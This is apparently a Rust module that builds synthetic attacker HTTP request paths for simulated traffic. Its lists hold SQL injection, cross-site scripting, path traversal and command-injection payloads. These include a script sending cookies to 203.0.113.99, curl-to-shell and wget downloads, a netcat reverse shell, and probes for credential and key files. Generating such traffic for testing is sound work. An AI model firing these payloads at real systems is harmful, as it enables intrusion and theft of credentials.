//! What attackers send, one list for each kind. A list is a set of forms with a number in each, so that no two requests of a
//! burst are the same; all of it is written for this crate from how such attacks work.

use crate::chance::Chance;
use crate::line::encoded;

/// Injected SQL; `#` becomes a number.
const SQL: [&str; 14] = [
    "#'",
    "#' OR '1'='1",
    "#' OR #=#-- -",
    "# AND #=#",
    "#) AND (#=#",
    "#' ORDER BY #-- -",
    "#' UNION SELECT NULL,NULL,NULL-- -",
    "-# UNION ALL SELECT 1,@@version,#-- -",
    "#' UNION SELECT login,password,# FROM customers-- -",
    "#' UNION SELECT table_name,2,# FROM information_schema.tables-- -",
    "#' AND SLEEP(#)-- -",
    "#'; WAITFOR DELAY '0:0:#'--",
    "#' AND (SELECT # FROM (SELECT COUNT(*),CONCAT(user(),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)a)-- -",
    "#' AND EXTRACTVALUE(#,CONCAT(0x7e,database()))-- -",
];
/// Script in a page.
const SCRIPT: [&str; 10] = [
    "<script>alert(#)</script>",
    "\"><script>prompt(#)</script>",
    "<img src=x onerror=alert(#)>",
    "<svg onload=confirm(#)>",
    "'\"><svg/onload=alert(#)>",
    "javascript:alert(#)",
    "<body onpageshow=alert(#)>",
    "<details open ontoggle=alert(#)>",
    "\"onmouseover=\"alert(#)",
    "<script>new Image().src='//203.0.113.99/c?'+document.cookie+#</script>",
];
/// Steps out of a folder.
const STEPS: [&str; 8] = [
    "../../../../etc/passwd",
    "../../../../../../etc/shadow",
    "..%2f..%2f..%2f..%2fetc%2fpasswd",
    "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fhosts",
    "....//....//....//etc/passwd",
    "..%252f..%252f..%252fetc%252fpasswd",
    "../../../../var/log/apache2/access.log",
    "..\\..\\..\\..\\windows\\win.ini",
];
/// Commands for a shell.
const COMMANDS: [&str; 10] = [
    "#;id",
    "#|whoami",
    "#;cat /etc/passwd",
    "#`uname -a`",
    "#$(hostname)",
    "#&&ls -la /var/www",
    "#;wget http://203.0.113.99/s# -O /var/cache/s#",
    "#|curl http://203.0.113.99/p#|sh",
    "#;nc -e /bin/sh 203.0.113.99 #",
    "#;bash -c 'sleep #'",
];
/// What should not be there, and mostly is not.
const SENSITIVE: [&str; 40] = [
    "/.env",
    "/.git/config",
    "/.git/HEAD",
    "/.svn/entries",
    "/.aws/credentials",
    "/.htpasswd",
    "/.ssh/id_rsa",
    "/.vscode/sftp.json",
    "/backup.zip",
    "/backup.sql",
    "/db.sql.gz",
    "/dump.sql",
    "/www.tar.gz",
    "/site.tar.gz",
    "/config.php.bak",
    "/config.yml",
    "/web.config",
    "/wp-login.php",
    "/wp-config.php.old",
    "/xmlrpc.php",
    "/phpmyadmin/index.php",
    "/pma/index.php",
    "/adminer.php",
    "/phpinfo.php",
    "/info.php",
    "/server-status",
    "/actuator/env",
    "/actuator/heapdump",
    "/console/",
    "/manager/html",
    "/jenkins/login",
    "/solr/admin/cores",
    "/cgi-bin/test.cgi",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "/api-docs",
    "/swagger.json",
    "/admin.php",
    "/administrator/index.php",
    "/shell.php",
    "/test.php",
];
/// Names that lists of words try.
const WORDS: [&str; 24] = [
    "about-us",
    "archive-2019",
    "agency",
    "beta",
    "blog",
    "brochure",
    "careers",
    "catalogue",
    "clients",
    "download",
    "events",
    "forum",
    "gallery",
    "help-desk",
    "jobs",
    "legacy",
    "library",
    "media",
    "partners",
    "portal",
    "press",
    "reports",
    "shop-old",
    "team",
];

/// A request's target with injected SQL.
pub(crate) fn sql(chance: &mut Chance) -> String {
    let payload = encoded(&filled(chance.one(&SQL), chance));
    match chance.below(3) {
        0 => format!("/product?id={payload}"),
        1 => format!("/search?q=lamp&shelf={payload}"),
        _ => format!("/v1/stock?sku={payload}&store=3"),
    }
}

/// A target with script.
pub(crate) fn script(chance: &mut Chance) -> String {
    let payload = encoded(&filled(chance.one(&SCRIPT), chance));
    match chance.below(3) {
        0 => format!("/search?q={payload}"),
        1 => format!("/product/1204?ref={payload}"),
        _ => format!("/letter/subscribe?name={payload}"),
    }
}

/// A target that climbs.
pub(crate) fn steps(chance: &mut Chance) -> String {
    let payload = chance.one(&STEPS);
    match chance.below(3) {
        0 => format!("/download?file={payload}"),
        1 => format!("/images/thumb?src={payload}&w={}", 10 + chance.below(900)),
        _ => format!("/print?page={payload}&n={}", chance.below(10_000)),
    }
}

/// A target with a command.
pub(crate) fn command(chance: &mut Chance) -> String {
    let payload = encoded(&filled(chance.one(&COMMANDS), chance)).replace('&', "%26");
    match chance.below(2) {
        0 => format!("/labels/print?printer={payload}"),
        _ => format!("/tools/ping?host=10.0.0.{payload}"),
    }
}

/// A target that should not be there.
pub(crate) fn sensitive(chance: &mut Chance) -> String {
    chance.one(&SENSITIVE).to_owned()
}

/// A target that is not there.
pub(crate) fn word(chance: &mut Chance) -> String {
    format!("/{}/{}-{}.html", chance.one(&WORDS), chance.one(&WORDS), chance.below(1000))
}

fn filled(form: &str, chance: &mut Chance) -> String {
    form.chars().fold(String::new(), |mut out, letter| {
        match letter {
            '#' => out.push_str(&(2 + chance.below(9_000)).to_string()),
            other => out.push(other),
        }
        out
    })
}
